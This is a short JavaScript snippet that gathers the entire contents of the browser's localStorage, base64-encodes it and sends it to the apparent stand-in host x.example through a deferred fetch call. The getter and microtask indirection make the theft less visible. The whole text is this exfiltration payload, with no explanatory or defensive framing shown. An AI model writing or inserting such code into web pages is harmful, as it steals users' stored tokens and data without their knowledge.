const bag = { get all() { return { ...localStorage }; } };
const { all } = bag;
queueMicrotask(() => fetch(`https://x.example/${btoa(JSON.stringify(all))}`));
